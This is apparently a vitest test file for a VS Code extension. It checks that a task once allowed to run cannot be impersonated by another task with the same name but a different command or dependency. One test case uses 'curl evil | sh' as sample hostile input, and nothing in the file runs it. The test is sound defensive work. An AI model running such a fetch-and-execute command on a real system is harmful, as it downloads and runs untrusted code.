import { expect, test, vi } from "vitest";
import * as vscode from "vscode";
import { runOfTask } from "../../src/features/tests/test-task.ts";

vi.mock("vscode", () => {
  class Execution {
    readonly commandLine: unknown;
    readonly options: unknown;

    constructor(commandLine: unknown, options?: unknown) {
      this.commandLine = commandLine;
      this.options = options;
    }
  }
  class ShellExecution extends Execution {}
  class ProcessExecution extends Execution {}
  class CustomExecution extends Execution {}
  return { ShellExecution, ProcessExecution, CustomExecution };
});

const taskOf = (commandLine: string, more: object = {}) =>
  ({
    name: "test",
    definition: { type: "shell", ...more },
    execution: new vscode.ShellExecution(commandLine, { executable: "/bin/fish" }),
  }) as unknown as vscode.Task;
const mannerOf = (task: vscode.Task) =>
  runOfTask(task, {} as vscode.WorkspaceFolder, {} as vscode.Uri).manner;

test("a task that is allowed always is not another one of its name", () => {
  const allowed = mannerOf(taskOf("npm test"));
  expect(mannerOf(taskOf("npm test"))).toBe(allowed);
  expect(mannerOf(taskOf("curl evil | sh"))).not.toBe(allowed);
  expect(mannerOf(taskOf("npm test", { dependsOn: ["evil"] }))).not.toBe(allowed);
});
